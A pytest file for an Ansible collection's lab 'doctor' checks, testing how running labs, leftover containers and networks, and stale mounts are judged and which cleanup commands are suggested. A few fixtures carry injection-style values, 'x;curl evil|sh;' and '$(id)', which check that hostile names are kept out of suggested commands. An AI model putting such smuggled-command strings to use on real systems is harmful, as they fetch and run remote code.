# Copyright: (c) 2026, the DESI Lab contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

import pytest

from ansible_collections.desi.lab.plugins.module_utils._doctor.findings import BROKEN, OK, SKIPPED, WARNING
from ansible_collections.desi.lab.plugins.module_utils._doctor.labs import judge_labs, judge_leftovers


def lab(name="desi", **changed):
    row = {"name": name, "state": "running", "address": "127.0.0.1", "port": 8888, "mount": "/m"}
    return {**row, "server_answers": True, "mount_answers": True, **changed}


def found(*labs, engine=True, reason="", containers=(), networks=(), mounts=()):
    return {
        "engine": engine,
        "reason": reason,
        "labs": list(labs),
        "containers": [{"name": name, "lab": whose, "role": ""} for name, whose in containers],
        "networks": [{"name": name, "lab": whose} for name, whose in networks],
        "mounts": [{"path": path, "labs": users, "made_for": made_for} for path, users, made_for in mounts],
    }


STOPPED = lab("two", state="exited", server_answers=None, mount_answers=None)
SILENT = lab("two", server_answers=False)
OURS = found(
    lab(),
    containers=[("desi-lab-desi", "desi"), ("desi-lab-desi-sample", "desi")],
    networks=[("desi-lab-desi", "desi")],
    mounts=[("/m/one", ["desi"], ["desi"])],
)
OLD = found(lab(), containers=[("c", "old")], networks=[("desi-lab-old", "old")])
DOWN = "./lab down -e lab_name=old -e lab_where=here"
OF_NOBODY = [("Leftovers", WARNING, "network n", "see whose it is")]
UNIT = "desi-lab-mount-two-96493d.service"


@pytest.mark.parametrize(
    ("findings", "expected"),
    [
        (judge_labs(found(lab(), STOPPED)), [("Labs here", OK, "desi (running), two (stopped)", "")]),
        (judge_labs(found()), [("Labs here", OK, "none", "")]),
        (judge_labs(found(engine=False, reason="Off.")), [("Labs here", SKIPPED, "not looked at: off", "")]),
        (judge_labs({"failed": True, "msg": "timed out"}), [("Labs here", SKIPPED, "not looked at: ", "")]),
        (judge_labs(found(lab(), SILENT)), [("Lab two", BROKEN, "127.0.0.1:8888", "-e lab_name=two")]),
        (
            judge_labs(found(lab(server_answers=False, mount_answers=False))),
            [("Lab desi", BROKEN, "127.0.0.1:8888", "wait"), ("Lab desi", BROKEN, "/m", "mounts again")],
        ),
        (judge_leftovers(OURS, []), [("Leftovers", OK, "none", "")]),
        (judge_leftovers(OLD, []), [("Leftovers", WARNING, "container c, network desi-lab-old", DOWN)]),
        *[(judge_leftovers(found(networks=[("n", name)]), []), OF_NOBODY) for name in ("x;curl evil|sh;", "a b", "")],
        # Without an engine, nobody knows which mounts are used.
        (judge_leftovers(found(engine=False, mounts=[("/m/two", [], [])]), []), [("Leftovers", OK, "none", "")]),
    ],
)
def test_labs_and_what_is_left_of_them_are_judged(findings, expected):
    assert [(each.title, each.verdict) for each in findings] == [row[:2] for row in expected]
    for each, (_title, _verdict, says, do) in zip(findings, expected):
        assert says in each.found
        assert do in each.do


@pytest.mark.parametrize(
    ("users", "made_for", "units", "dead", "do"),
    [
        ([], ["desi", "gone"], (), False, "./lab down -e lab_name=gone -e lab_where=here"),
        # A removal of the lab that is here would take another mount.
        ([], ["desi"], (), False, "sudo umount -l /m/two/.bucket"),
        ([], [], (), False, "sudo umount -l /m/two/.bucket"),
        ([], [], (UNIT,), False, f"sudo systemctl disable --now {UNIT}"),
        ([], ["$(id)"], (), False, "sudo umount -l /m/two/.bucket"),
        ([], ["gone"], (), True, "./lab down -e lab_name=gone -e lab_where=here"),
        ([], [], (), True, "sudo umount -l /m/two/.bucket"),
        (["paper"], ["paper"], (), True, "again that made the lab paper, such as ./lab local -e lab_name=paper"),
    ],
)
def test_a_mount_is_ended_without_a_healthy_lab(users, made_for, units, dead, do):
    mounts = [("/m/one", ["desi"], []), ("/m/two", users, made_for)]
    labs = found(lab(), lab("paper"), mounts=mounts)
    (finding,) = judge_leftovers(labs, ["/m/two/.bucket"] if dead else [], units)
    assert (finding.verdict, finding.do.endswith(do)) == (BROKEN if dead else WARNING, True), finding.do
